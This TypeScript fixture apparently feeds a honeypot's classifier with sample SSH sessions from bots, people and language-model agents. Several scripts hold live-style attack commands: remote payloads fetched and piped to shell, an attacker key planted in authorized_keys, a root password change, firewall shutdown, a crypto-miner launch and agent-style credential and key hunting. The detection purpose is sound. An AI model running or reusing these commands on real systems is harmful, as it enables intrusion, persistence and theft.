import type { TypedTurn } from '../../src/analysis/agent-score.ts'

/** Command lines with the exit status they get; `!` before a line marks one that fails. */
type Script = readonly string[]

/** What bots send over SSH, one script a family of them. */
const BOTS: readonly Script[] = [
  ['uname -a'],
  ['uname -s -v -n -r -m'],
  ['cat /proc/cpuinfo | grep name | wc -l', 'free -m | grep Mem', 'w', 'crontab -l', 'uname -m', 'top', 'lscpu | grep Model'],
  [
    'cd ~; chattr -ia .ssh; lockr -ia .ssh',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    'echo "root:q8K2mPz0aLx1"|chpasswd|bash',
    'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
  ],
  [
    'enable',
    'system',
    'shell',
    'sh',
    '/bin/busybox MIRAI',
    '!cat /proc/mounts; /bin/busybox PEACH',
    'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *',
  ],
  ['echo -e "\\x6F\\x6B"', 'cd /tmp; wget http://198.51.100.9/x86; curl -O http://198.51.100.9/x86; chmod +x x86; ./x86 ssh'],
  ['export HISTFILE=/dev/null; nproc; uname -a; id; cat /etc/issue | head -n 1'],
  [
    '!/ip cloud print',
    'ifconfig',
    'uname -a',
    'cat /proc/cpuinfo',
    "ps | grep '[Mm]iner'",
    "ps -ef | grep '[Mm]iner'",
    'ls -la ~/.local/share/TelegramDesktop/tdata',
    'locate D877F783D5D3EF8Cs',
    'echo Hi | cat -n',
  ],
  [
    'lspci | grep VGA | cut -f5- -d " "',
    'nvidia-smi -q | grep "Product Name"',
    'cat /etc/os-release',
    'echo "---"; df -h; echo "---"; who',
  ],
  ['scp -t /tmp/sshd', 'cd /tmp; chmod 777 sshd; ./sshd; rm -rf sshd', '!service iptables stop; systemctl stop firewalld', 'history -c'],
  [
    '#!/bin/sh',
    'PATH=$PATH:/usr/local/sbin:/usr/local/bin',
    'wget -q http://203.0.113.80/k.php?a=x86_64,JW2K -O -|sh',
    'curl -s http://203.0.113.80/k.php?a=x86_64,JW2K|sh',
  ],
  [
    'busybox wget http://203.0.113.8/arm7 -O- > /tmp/a; chmod 777 /tmp/a; /tmp/a telnet.arm7',
    '!tftp -g -r arm7 203.0.113.8',
    '!ftpget -v -u anonymous -P 21 203.0.113.8 arm7 arm7',
  ],
]

/** What people type; mistakes and all. */
const PEOPLE: readonly Script[] = [
  ['ls', 'ls -la', 'cd /var/www', 'ls', 'cat index.html', 'cd ..', 'whoami', 'id', 'sudo su', 'cat /etc/shadow', 'exit'],
  [
    'w',
    'last',
    'ps aux',
    'netstat -tulpn',
    '!nestat -an',
    'ss -tulpn',
    'cat ~/.bash_history',
    'cd /tmp',
    'wget http://203.0.113.4/t.tgz',
    'tar xzf t.tgz',
    'cd t',
    './start',
  ],
  [
    'pwd',
    'ls',
    '!cd dowloads',
    'cd /home',
    'ls -la maris',
    '!cat maris/notes',
    'find / -name "*.sql" 2>/dev/null',
    'mysql -u root -p',
    'uname -a',
  ],
  [
    'cat /proc/cpuinfo',
    'free -h',
    'df -h',
    'nproc',
    'curl ifconfig.me',
    '!speedtest',
    '!apt install speedtest',
    'apt-get install speedtest-cli',
    'top',
  ],
  ['hello', 'is this a honeypot', 'ls', 'lol', 'rm -rf /', 'exit'],
  [
    'ifconfig',
    'ip a',
    'route -n',
    'arp -a',
    'ping 10.20.0.1',
    'nmap 10.20.0.0/24',
    '!nmap -sV 10.20.0.5',
    'ssh root@10.20.0.2',
    'history',
    'clear',
  ],
  [
    'vi /etc/crontab',
    'crontab -e',
    'crontab -l',
    'systemctl status cron',
    '!systemctl restart crond',
    'systemctl restart cron',
    'tail -f /var/log/syslog',
  ],
  [
    'mkdir /dev/shm/.x',
    'cd /dev/shm/.x',
    'curl -O http://198.51.100.20/xmrig-6.21.0-linux-static-x64.tar.gz',
    'tar xf xmrig-6.21.0-linux-static-x64.tar.gz',
    'cd xmrig-6.21.0',
    './xmrig -o pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls',
  ],
]

/** How language models work a shell through a tool. */
const AGENTS: readonly Script[] = [
  [
    'whoami && id && hostname && uname -a',
    '# Check the operating system and kernel version\ncat /etc/os-release; uname -r',
    'sudo -n -l 2>/dev/null || echo "No passwordless sudo available"',
    'find / -perm -4000 -type f 2>/dev/null | head -50',
    '!cat /home/maris/.ssh/id_rsa 2>/dev/null',
    'ls -la /home/maris/.ssh/ /root/.ssh/ 2>/dev/null | grep -v "^total"',
    '# Look for credentials in web configuration files\ngrep -rniE "password|secret|api_key" /var/www --include="*.php" 2>/dev/null | head -20',
  ],
  [
    'echo "=== SYSTEM INFO ==="; uname -a; echo "=== USERS ==="; cat /etc/passwd | grep -v nologin',
    'echo "=== NETWORK ==="; ip addr show; ss -tlnp; echo "=== CRON ==="; ls -la /etc/cron*',
    '!docker ps -a --format "{{.Names}} {{.Image}}"',
    'ls -la /var/run/docker.sock 2>/dev/null || echo "docker is not installed here"',
    '!mysql -u root -e "show databases;" 2>&1 | head -20',
    'mysql -u root -ptoor -e "show databases;" --connect-timeout=5 2>&1 | head',
  ],
  [
    'I need to enumerate the services that are running on this host first.',
    'ps aux --sort=-%mem | head -25; systemctl list-units --type=service --state=running',
    'Let me check the web root for any configuration files with credentials',
    'find /var/www -type f \\( -name "*.env" -o -name "config*.php" -o -name "wp-config.php" \\) 2>/dev/null',
    'cat /var/www/portal/.env 2>/dev/null || cat /var/www/html/.env 2>/dev/null || echo "no env file found"',
  ],
  [
    'cat /etc/os-release | head -5 && uname -a && whoami',
    '!python3 -c "import requests; print(requests.__version__)"',
    'python3 -c "import urllib.request as u; print(u.urlopen(\'http://127.0.0.1\').read()[:200])"',
    '!nc -zv 10.20.0.5 22 80 443 3306 2>&1 | grep succeeded',
    'for p in 22 80 443 3306 5432 6379; do (echo > /dev/tcp/10.20.0.5/$p) 2>/dev/null && echo "port $p open"; done',
    'cat /root/.bash_history | tail -50; ls -la /root /srv/backup 2>/dev/null',
    'tar tzf /srv/backup/nightly.tar.gz 2>/dev/null | head -40 || echo "backup is not readable by us"',
  ],
]

export interface CorpusSession {
  kind: 'bot' | 'person' | 'agent'
  turns: TypedTurn[]
}

/** Every script in several timings. The same sessions in every run. */
export function agentCorpus(): CorpusSession[] {
  const random = generator(41)
  const sessions: CorpusSession[] = []
  for (let round = 0; round < 20; round++) {
    const fixedPause = 20 + random() * 1_500
    for (const script of BOTS) sessions.push(session('bot', script, () => fixedPause + random() * 40))
    for (const script of PEOPLE) sessions.push(session('person', script, (line) => 600 + random() * 9_000 + typing(line, random)))
    for (const script of AGENTS) sessions.push(session('agent', script, (line) => 1_300 + random() * 4_500 + line.length * 4))
  }
  return sessions
}

/** Milliseconds that a person takes: long lines are pasted, others typed at three to nine characters a second. */
function typing(line: string, random: () => number): number {
  return line.length > 60 ? 400 : (line.length * 1_000) / (3 + random() * 6)
}

function session(kind: CorpusSession['kind'], script: Script, pause: (line: string) => number): CorpusSession {
  let now = 1_790_000_000_000
  const turns = script.map((entry): TypedTurn => {
    const fails = entry.startsWith('!')
    const input = fails ? entry.slice(1) : entry
    now += Math.round(pause(input)) + 12
    return { input, endedAt: now, durationMs: 12, exitCode: fails ? 127 : 0 }
  })
  return { kind, turns }
}

/** Numerical Recipes' linear congruential generator. */
function generator(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return state / 2 ** 32
  }
}
